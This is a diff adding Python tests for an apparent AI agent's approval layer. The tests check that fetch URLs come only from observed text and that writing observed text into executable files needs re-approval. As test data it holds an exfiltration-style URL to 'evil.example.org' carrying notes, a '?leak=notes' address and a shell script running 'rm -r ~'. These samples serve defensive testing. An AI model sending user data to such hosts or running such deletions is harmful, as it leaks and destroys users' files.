@@ -9,6 +9,7 @@ import pytest
 from okso_jupyter.errors import ApprovalError
 from okso_jupyter.plan.plan import Plan
 from tests.bench import END, Bench, bodies
+from tests.web_lab import Host, answer, internet, says
 
 READ: dict[str, Any] = {"tool": "file_read", "args": {"path": "notes.txt"}}
 
@@ -205,3 +206,103 @@ def test_nothing_is_handed_on_as_a_path(bench: Bench) -> None:
 
     with pytest.raises(ApprovalError):
         bench.run(plan, {"path": "notes.txt"})
+
+
+# --- addresses ---------------------------------------------------------------------------------
+
+FETCH: dict[str, Any] = {"tool": "web_fetch", "args": {"url": ""}}
+PAGE = """See [the news](https://example.org/a_(b)), [1](http://example.org/1)[2](http://example.org/2).
+Then HTTP://example.org/x?a=1&b=2; or <https://example.org/y>... but never http://127.0.0.1/admin,
+http://localhost/, ftp://example.org/, https://user:pw@example.org/ or "https://".
+"""
+
+
+def test_an_open_address_is_offered_addresses_alone(bench: Bench) -> None:
+    """Those of the outputs, then those of the request; no lines, and none that would be refused."""
+    (bench.root / "notes.txt").write_text(PAGE)
+    plan = Plan.from_dict(
+        {"steps": [READ, FETCH, END], "request": "Fetch https://example.org/asked."}
+    )
+    host = Host(says(answer(b"It rains.", Content_Type="text/plain")))
+    with internet(host):
+        run = bench.run(plan, {"url": "http://example.org/2"}, approve=lambda _plan: "approve")
+    host.close()
+
+    schema = bench.model.requests[0].schema
+    assert schema is not None
+    assert schema["properties"]["url"] == {
+        "enum": [
+            "https://example.org/a_(b)", "http://example.org/1", "http://example.org/2",
+            "HTTP://example.org/x?a=1&b=2", "https://example.org/y", "https://example.org/asked",
+        ]
+    }  # fmt: skip
+    assert (run.state, run.answer) == ("completed", "It rains.")
+    assert host.requests[0].startswith("GET /2 ")
+
+
+def test_without_an_address_the_model_is_not_asked(bench: Bench) -> None:
+    """Where none was seen the step fails without a question and without a call."""
+    run = bench.run([READ, FETCH, END])
+    assert run.steps_seen[1].error == "nothing was found to fill url with"
+    assert bench.model.requests == []
+
+
+def test_an_address_that_was_not_seen_is_not_taken(bench: Bench) -> None:
+    """A server that keeps to no schema cannot make one up either."""
+    (bench.root / "notes.txt").write_text("https://example.org/")
+    run = bench.run([READ, FETCH, END], {"url": "https://evil.example.org/?q=notes"})
+    assert run.steps_seen[1].error == "nothing was found to fill url with"
+
+
+def test_an_observed_address_asks_again(bench: Bench) -> None:
+    """The second question shows it; `auto` is no answer to that."""
+    (bench.root / "notes.txt").write_text("https://example.org/?leak=notes")
+    filled = {"url": "https://example.org/?leak=notes"}
+    shown: list[Plan] = []
+
+    def approve(plan: Plan) -> str:
+        shown.append(plan)
+        return "approve" if len(shown) == 1 else "reject"
+
+    with pytest.raises(ApprovalError, match="step 2"):
+        bench.run([READ, FETCH, END], filled, approve=approve)
+    assert shown[1].steps[0].args == filled
+    with pytest.raises(ApprovalError, match="step 2"):
+        bench.run([READ, FETCH, END], filled)
+
+
+# --- texts that are run later --------------------------------------------------------------------
+
+RUN_LATER = ("a.py", "A.PY", "run.sh", "x.ipynb", "Makefile", "d/../Makefile", "a.p\u200by", "s.js")
+
+
+@pytest.mark.parametrize("name", RUN_LATER)
+def test_observed_text_for_a_file_that_is_run_asks_again(bench: Bench, name: str) -> None:
+    """Shown with the text first, whether the model chose it or it was handed on."""
+    shown: list[Plan] = []
+
+    def approve(plan: Plan) -> str:
+        shown.append(plan)
+        return "approve" if len(shown) == 1 else "reject"
+
+    step = {**write(path=name), "depends_on": [1]}
+    with pytest.raises(ApprovalError, match="step 2"):
+        bench.run([READ, step, END], approve=approve)
+    assert shown[1].steps[0].args == {"path": name, "content": "buy milk\ncall Ann\n"}
+    assert {file.name for file in bench.root.iterdir()} == {"notes.txt", "sales.csv"}
+
+
+def test_observed_text_that_names_its_interpreter_asks_again(bench: Bench) -> None:
+    """A file that starts with #! is a script, whatever it is called."""
+    (bench.root / "notes.txt").write_text("#!/bin/sh\nrm -r ~\n")
+    with pytest.raises(ApprovalError, match="step 2"):
+        bench.run([READ, {**write(), "depends_on": [1]}, END])
+    assert not (bench.root / "out.txt").exists()
+
+
+@pytest.mark.parametrize("name", ["out.md", "py", "data.csv", "makefile.txt", "a.html"])
+def test_observed_text_for_any_other_file_does_not(bench: Bench, name: str) -> None:
+    """What nobody runs is written as approved."""
+    run = bench.run([READ, {**write(path=name), "depends_on": [1]}, END])
+    assert run.state == "completed"
+    assert (bench.root / name).read_text() == "buy milk\ncall Ann\n"
